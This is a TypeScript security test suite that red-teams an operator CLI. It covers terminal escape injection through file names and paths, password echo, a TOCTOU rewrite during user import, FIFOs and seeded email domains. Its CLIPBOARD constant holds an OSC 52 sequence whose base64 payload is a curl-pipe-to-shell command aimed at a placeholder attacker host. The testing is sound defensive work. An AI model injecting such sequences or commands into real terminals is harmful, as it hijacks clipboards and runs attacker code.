// Red-team round on the operator's command line outside the checks: `bulwark init`, `dev seed`, `hash new|verify`,
// `users create|import` (src/cli/commands/init.ts, dev.ts, hash.ts, users.ts, users-admin.ts; src/dev/seed.ts).
// Attackers: another local account on the same machine (names files in a shared export directory, writes a file it
// handed over after the operator has looked at it, watches the operator's screen, scrollback or session recording),
// and whoever gets an operator to run a command with crafted input (a data dir path or a file name copied from a
// ticket, a file picked up by a shell glob). Goals: drive the operator's terminal (OSC 52 writes the clipboard, CSI
// rewrites lines), read a password the operator typed, get rows imported that were never validated, and get reset
// mail for synthetic administrators delivered outside the names reserved for examples.
// Each test is an attack that must fail: it passes when the product is safe. A test named "attack: … (was: …)" failed
// on the day it was written, before its fix, and says what the code did. Temp dirs and loopback only; the
// pseudo-terminal tests need util-linux `script` and skip without it.
// Not repeated here: data-dir modes, owners and links (datadir-*.test.ts), the master key in init's output
// (start-config-attacks), seed passwords (start-config-attacks), `dev seed` refusing real users and out-of-range
// sizes, lock reasons in `users unlock` (cli-admin-attacks), empty and repeated options (cli-input-errors), hostile
// CSV bytes (cli-users-import-input), stdin size and UTF-8 for `hash` (cli-hash).
import assert from "node:assert/strict";
import { spawn, spawnSync } from "node:child_process";
import { createHash } from "node:crypto";
import fs, { mkdirSync, mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { syncBuiltinESMExports } from "node:module";
import { join } from "node:path";
import { after, before, describe, it } from "node:test";
import { createPasswordContext } from "../src/accounts/passwords/index.ts";
import { systemRandom } from "../src/lib/random.ts";
import { bulwarkInProcess, initSite, MAIN, type CLISite } from "./helpers/cli.ts";
import { CHEAP_ARGON2, scratchRoot } from "./helpers/scratch.ts";

const QUIET = { BULWARK_LOG_LEVEL: "silent", BULWARK_DATABASE_URL: "", BULWARK_MASTER_KEY: "" };

// What must never reach the operator's terminal raw: C0 (but for \n), DEL, C1 and the bidirectional controls.
// eslint-disable-next-line no-control-regex
const TERMINAL_CONTROL = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]/;
// OSC 52 sets the clipboard of most terminal emulators (xterm, iTerm2, kitty, tmux, Windows Terminal): the next paste
// runs the attacker's command. ESC [2K erases the line that showed it; a BEL ends the OSC.
const CLIPBOARD = "\u001b]52;c;Y3VybCAtcyBodHRwOi8vZXZpbC5leGFtcGxlL3ggfCBzaAo=\u0007\u001b[2K";

const { root } = scratchRoot("bulwark-operator-cli-redteam-");
let sites = 0;

/** A fresh site; `bulwark init` runs in this process unless `spawned` (one real `init` per describe without another child). */
function site(options: { spawned?: boolean } = {}): Promise<CLISite> {
  return initSite(join(root, `site-${++sites}`), { here: !options.spawned });
}

function inProcess(s: CLISite, args: string[]): ReturnType<typeof bulwarkInProcess> {
  return bulwarkInProcess(args, { ...s.env, ...QUIET });
}

const md5 = (text: string): string => createHash("md5").update(text).digest("hex");
const HAS_SCRIPT = spawnSync("script", ["--version"], { encoding: "utf8" }).status === 0;

/**
 * Runs `bulwark ARGS` on a pseudo-terminal (util-linux `script`, ECHO on as a terminal is): stdin, stdout and stderr
 * are the terminal. `type` is what the operator types; it is sent once the command has written something (a prompt)
 * or after `settleMs`, so that a command that turns echo off first has had the time to. Returns what the terminal
 * showed (what a screen, scrollback or session recording keeps) and the exit code.
 */
function onTerminal(args: string[], env: NodeJS.ProcessEnv, type: string[], settleMs = 3000): Promise<{ code: number | null; screen: string }> {
  const quote = (s: string): string => `'${s.replaceAll("'", "'\\''")}'`;
  const command = [process.execPath, "--disable-warning=ExperimentalWarning", MAIN, ...args].map(quote).join(" ");
  return new Promise((resolve, reject) => {
    const child = spawn("script", ["-qfec", command, "/dev/null"], { env: { ...process.env, ...env }, stdio: ["pipe", "pipe", "pipe"] });
    let screen = "";
    let sent = false;
    const send = (): void => {
      if (sent) return;
      sent = true;
      let delay = 0;
      for (const keys of type) {
        delay += 300;
        setTimeout(() => child.stdin.writable && child.stdin.write(keys), delay);
      }
    };
    const settle = setTimeout(send, settleMs);
    const kill = setTimeout(() => child.kill("SIGKILL"), settleMs + 15_000);
    child.stdout.on("data", (d: Buffer) => {
      screen += d.toString();
      send();
    });
    child.stderr.on("data", (d: Buffer) => (screen += d.toString()));
    child.on("error", reject);
    child.on("close", (code) => {
      clearTimeout(settle);
      clearTimeout(kill);
      resolve({ code, screen });
    });
  });
}

describe("output that reaches the operator's terminal", () => {
  it("attack: a file name planted in a shared export directory drives neither the operator's terminal through `users import` (OSC 52 would rewrite the clipboard) nor the accounts' external source: escaped on screen, refused as a source (ASVS 16.4.1; CWE-150) (was: printed raw and stored with its escape codes)", async () => {
    const s = await site({ spawned: true });
    // The attacker can create files in the directory the legacy system exports to; the operator runs
    // `bulwark users import /srv/exports/*.csv` (or tab-completes the name).
    const exports = join(s.dir, "exports");
    mkdirSync(exports);
    const file = join(exports, `users${CLIPBOARD}.csv`);
    writeFileSync(file, "email,external_id\nana@example.org,7\n");
    for (const extra of [["--dry-run"], []]) {
      const r = await inProcess(s, ["users", "import", file, ...extra]);
      assert.equal(TERMINAL_CONTROL.test(r.stdout + r.stderr), false, `\`users import ${extra.join(" ")}\` wrote terminal controls raw: ${JSON.stringify(r.stdout + r.stderr)}`);
    }
    // Refused, or stored without the controls: the source is shown later by the API, the console and the audit trail.
    const stored = s.rows("SELECT external_source FROM users WHERE external_source IS NOT NULL").map((row) => String(row["external_source"]));
    assert.deepEqual(stored.filter((source) => TERMINAL_CONTROL.test(source)), [], "an external source holding escape codes was stored");
  });

  it("attack: a data dir path copied from a ticket (BULWARK_DATA_DIR or --data-dir) is printed escaped by `bulwark init`, newlines included: no OSC 52, no forged line (ASVS 16.4.1; CWE-150) (was: printed raw)", async () => {
    const dataDir = join(root, `ticket-${CLIPBOARD}\nBulwark is initialised.`, "data");
    for (const args of [["init"], ["--data-dir", dataDir, "init"]]) {
      const r = await bulwarkInProcess(args, { ...QUIET, ...CHEAP_ARGON2, BULWARK_DATA_DIR: dataDir });
      assert.equal(r.code, 0, r.stderr);
      // The path is the operator's to choose, so it may be created; it must only not reach the terminal as controls,
      // and no line may appear that the command did not write.
      assert.equal(TERMINAL_CONTROL.test(r.stdout), false, `\`bulwark ${args.join(" ")}\` wrote terminal controls raw: ${JSON.stringify(r.stdout)}`);
      assert.equal(r.stdout.split("\n").filter((line) => line === "Bulwark is initialised.").length, 1, `a forged line: ${JSON.stringify(r.stdout)}`);
    }
  });
});

describe("passwords typed at a terminal", () => {
  const env = { ...QUIET, ...CHEAP_ARGON2 };

  it("attack: a password typed for `hash new` or `hash verify` at a terminal is read with echo off, so no scrollback, session recording or shoulder keeps it (CWE-549) (was: echoed, and read until Ctrl-D)", { skip: !HAS_SCRIPT && "needs util-linux script for a pseudo-terminal", timeout: 60_000 }, async () => {
    const password = "Tr0ub4dor-and-3-horses";
    const stored = "5f4dcc3b5aa765d61d8327deb882cf99"; // md5("password"): a mismatch, exit 1, either way
    const shown: string[] = [];
    for (const args of [["hash", "new"], ["hash", "verify", stored]]) {
      // The password and Enter; then Ctrl-D, which today's code waits for (it reads stdin to its end).
      const { code, screen } = await onTerminal(args, env, [`${password}\r`, "\u0004"]);
      assert.ok(code === 0 || code === 1, `\`bulwark ${args.join(" ")}\` exit ${code}: ${JSON.stringify(screen)}`);
      if (screen.includes(password)) shown.push(`bulwark ${args[0]} ${args[1]} showed ${JSON.stringify(screen)}`);
    }
    assert.deepEqual(shown, [], "the typed password was on the terminal");
  });

  it("attack: `users create` run on a terminal reads no typed (echoed) password: it generates one, prints it once and does not wait for input", { skip: !HAS_SCRIPT && "needs util-linux script for a pseudo-terminal", timeout: 60_000 }, async () => {
    const s = await site();
    const typed = "Typed-On-The-Terminal-42";
    // The operator types nothing useful; whatever is typed late must not become the password.
    const { code, screen } = await onTerminal(["users", "create", "--email", "tty-admin@example.org"], { ...s.env, ...QUIET }, [`${typed}\r`, "\u0004"], 10_000);
    assert.equal(code, 0, screen);
    const printed = /password \(shown once; it must be changed at first sign-in\): ([a-z2-7]{32})/i.exec(screen)?.[1];
    assert.ok(printed, `a generated password is printed: ${JSON.stringify(screen)}`);
    const [user] = s.rows("SELECT password_must_change, password_hash FROM users WHERE email = 'tty-admin@example.org'");
    assert.equal(user?.["password_must_change"], 1, "a generated password must be changed at first sign-in");
    // What the terminal shows of keys typed while the command runs is the terminal's own echo (its line discipline
    // echoes input no program reads, and on a loaded machine the command is still committing when they arrive): what
    // must hold is that the command never read them, so the account's password is the printed one, not the typed text.
    const passwords = createPasswordContext({ random: systemRandom });
    const stored = String(user?.["password_hash"]);
    assert.equal(await passwords.verify(printed, stored), true, "control: the printed password is the account's");
    assert.equal(await passwords.verify(typed, stored), false, "the typed text became the account's password");
  });
});

describe("users import reads what it validated", () => {
  it("attack: a file rewritten between the validation pass and the write pass changes nothing: every pass reads one private copy, and the audited digest is that of the rows written (TOCTOU, CWE-367) (was: the appended rows were imported unvalidated under the reviewed file's digest)", async () => {
    const s = await site();
    const reviewed = `email,password_hash\nana@example.org,${md5("ana's old one")}\n`;
    // The attacker's addition: an account whose (legacy md5) password they know.
    const planted = `${reviewed}mallory@example.net,${md5("letmein-mallory")}\n`;
    const file = s.file("handover.csv", reviewed);
    // The file lives where its author (the attacker, or anyone who can write the shared directory) can still write
    // it. The attacker waits for the import's job row (it appears once the file has been validated, before anything
    // is written: the jobs table is what `bulwark` itself reports progress from) and rewrites the file. The hooks on
    // every way of opening a path only make that timing exact: the rewrite happens through the filesystem, before the
    // first open of the file after the job exists, whichever call opens it.
    const jobExists = (): boolean => Number(s.rows("SELECT count(*) AS n FROM jobs WHERE kind = 'users-import'")[0]!["n"]) > 0;
    let rewritten = false;
    const attacker = (path: unknown): void => {
      if (!rewritten && String(path) === file && jobExists()) {
        rewritten = true;
        writeFileSync(file, planted);
      }
    };
    type Opener = (path: unknown, ...rest: unknown[]) => unknown;
    const hooked: Array<[Record<string, unknown>, string]> = [[fs, "createReadStream"], [fs, "open"], [fs, "openSync"], [fs, "readFileSync"], [fs.promises, "open"], [fs.promises, "readFile"]];
    const originals = hooked.map(([object, name]) => object[name] as Opener);
    hooked.forEach(([object, name], i) => {
      const original = originals[i]!;
      object[name] = function (this: unknown, path: unknown, ...rest: unknown[]) {
        attacker(path);
        return original.call(this, path, ...rest);
      };
    });
    syncBuiltinESMExports();
    let r: Awaited<ReturnType<typeof inProcess>>;
    try {
      r = await inProcess(s, ["users", "import", file, "--json"]);
    } finally {
      hooked.forEach(([object, name], i) => (object[name] = originals[i]));
      syncBuiltinESMExports();
    }
    const emails = s.rows("SELECT email FROM users ORDER BY email").map((row) => row["email"]);
    const reviewedDigest = createHash("sha256").update(reviewed).digest("hex");
    const recorded = s.rows("SELECT data FROM audit_events WHERE type = 'users.import.completed'").map((row) => (JSON.parse(String(row["data"])) as { sha256: string }).sha256);
    const audit = recorded.map((digest) => (digest === reviewedDigest ? "the reviewed file's sha256" : digest));
    assert.equal(emails.includes("mallory@example.net"), false, `a row nobody validated was imported (exit ${r.code}; audit records ${JSON.stringify(audit)} as imported): ${JSON.stringify(emails)}`);
    // Whatever the run did, the digest the audit trail records is the digest of what was written.
    for (const digest of recorded) assert.equal(digest, reviewedDigest);
  });

  it("attack: a FIFO planted under the export's name is refused at once (exit 2), not opened to wait for a writer that never comes", { skip: !fs.existsSync("/usr/bin/mkfifo") && "needs mkfifo", timeout: 20_000 }, async () => {
    const s = await site();
    const fifo = join(s.dir, "users.csv");
    assert.equal(spawnSync("mkfifo", [fifo]).status, 0);
    const r = await s.run(["users", "import", fifo]);
    assert.equal(r.code, 2, r.stderr);
    assert.match(r.stderr, /is not a file/);
    assert.equal(s.rows("SELECT count(*) AS n FROM users")[0]!["n"], 0);
  });
});

describe("dev seed", () => {
  it("attack: `dev seed` gives every account an address under a name reserved for examples, so a drill's reset links reach nobody (ASVS 14.2.3; RFC 2606, RFC 6761) (was: a fifth of them at uni.example.edu, which anybody may hold)", async () => {
    const s = await site({ spawned: true });
    const r = await inProcess(s, ["dev", "seed", "--users", "50", "--json"]);
    assert.equal(r.code, 0, r.stderr);
    // Reserved for documentation and tests: example.com, example.net, example.org (RFC 2606 §3) and the top-level
    // names .example, .test, .invalid, .localhost (RFC 2606 §2, RFC 6761).
    const reserved = /(^|\.)(example\.(com|net|org)|example|test|invalid|localhost)$/;
    const domains = new Set(s.rows("SELECT email FROM users WHERE seeded = 1").map((row) => String(row["email"]).split("@")[1]));
    assert.ok(domains.size > 0);
    assert.deepEqual([...domains].filter((domain) => !reserved.test(domain as string)), [], "seeded addresses outside the reserved names");
  });

  it("attack: `dev seed` says which database it wrote, so --data-dir beside a BULWARK_DATABASE_URL left in the environment cannot seed a PostgreSQL server unnoticed (was: the output named no database)", async () => {
    const s = await site();
    const human = await inProcess(s, ["dev", "seed", "--users", "3"]);
    assert.equal(human.code, 0, human.stderr);
    const database = join(s.env["BULWARK_DATA_DIR"] as string, "bulwark.db");
    assert.ok(human.stdout.startsWith(`database: ${database} [sqlite]\n`), human.stdout);
    const json = await inProcess(s, ["dev", "seed", "--users", "3", "--force", "--json"]);
    assert.equal(json.code, 0, json.stderr);
    assert.deepEqual([JSON.parse(json.stdout).database, JSON.parse(json.stdout).dialect], [database, "sqlite"]);
  });
});
